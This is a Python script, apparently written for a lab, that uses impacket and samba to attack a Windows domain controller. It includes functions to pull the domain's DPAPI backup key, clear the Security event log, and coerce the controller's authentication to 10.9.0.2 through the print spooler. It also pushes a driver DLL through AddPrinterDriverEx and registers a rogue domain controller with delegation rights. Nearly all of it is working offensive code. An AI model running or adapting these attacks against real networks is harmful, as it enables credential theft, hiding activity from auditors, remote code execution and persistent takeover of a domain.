"""Calls at a domain controller for which there is no program.

  calls.py SERVER USER PASSWORD backup_key|clear_log|printer_change|driver|forge
"""
import logging, sys
from impacket.dcerpc.v5 import bkrp, even, rprn, transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
from samba import credentials, param
from samba.dcerpc import spoolss
from samba.join import DCJoinContext

server, user, password, what = sys.argv[1:]


def connect(pipe, interface, sealed=False):
    carrier = transport.DCERPCTransportFactory(f"ncacn_np:{server}[\\pipe\\{pipe}]")
    carrier.set_credentials(user, password, "LAB")
    dce = carrier.get_dce_rpc()
    if sealed: dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.connect()
    dce.bind(interface)
    return dce


def of_samba():
    settings, login = param.LoadParm(), credentials.Credentials()
    settings.load("client.conf")
    login.guess(settings)
    login.set_username(user), login.set_password(password), login.set_domain("LAB")
    login.set_kerberos_state(credentials.DONT_USE_KERBEROS)
    return settings, login


def backup_key():
    """The public half of the domain's key for secrets of users (MS-BKRP 3.1.4.1.3)."""
    dce = connect("protected_storage", bkrp.MSRPC_UUID_BKRP, sealed=True)
    print(bkrp.hBackuprKey(dce, bkrp.BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID, NULL)["pcbDataOut"])
    dce.disconnect()


def clear_log():
    dce = connect("eventlog", even.MSRPC_UUID_EVEN)
    request = even.ElfrOpenELW()
    request["UNCServerName"], request["ModuleName"], request["RegModuleName"] = NULL, "Security", ""
    request["MajorVersion"] = request["MinorVersion"] = 1
    log = dce.request(request)["LogHandle"]
    request = even.ElfrClearELFW()
    request["LogHandle"], request["BackupFileName"] = log, NULL
    dce.request(request)
    dce.disconnect()


def printer_change():
    """Who wants to be told of changes is connected to (MS-RPRN 3.1.4.10.4)."""
    dce = connect("spoolss", rprn.MSRPC_UUID_RPRN)
    printers = rprn.hRpcOpenPrinter(dce, f"\\\\{server}\0")["pHandle"]
    rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(dce, printers, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine="\\\\10.9.0.2\0")
    dce.disconnect()


def driver():
    link = spoolss.spoolss(f"ncacn_np:{server}", *of_samba())
    files = spoolss.AddDriverInfo3()
    files.version, files.driver_name, files.architecture = 3, "Lab 7", "Windows x64"
    files.driver_path = files.data_file = files.config_file = "driver.dll"
    holder = spoolss.AddDriverInfoCtr()
    holder.level, holder.info = 3, files
    link.AddPrinterDriverEx(None, holder, spoolss.APD_COPY_ALL_FILES)


def forge():
    """A host has itself entered as a domain controller (MS-DRSR 4.1.1), and takes that back, as who has others replicate from it."""
    settings, login = of_samba()
    host = DCJoinContext(logging.getLogger(), server, login, settings, netbios_name="CLIENT", domain="lab.example", targetdir="forged")
    host.userAccountControl = 0x82000  # SERVER_TRUST_ACCOUNT, TRUSTED_FOR_DELEGATION
    host.build_nc_lists()
    host.join_add_objects()
    host.cleanup_old_join()


globals()[what]()
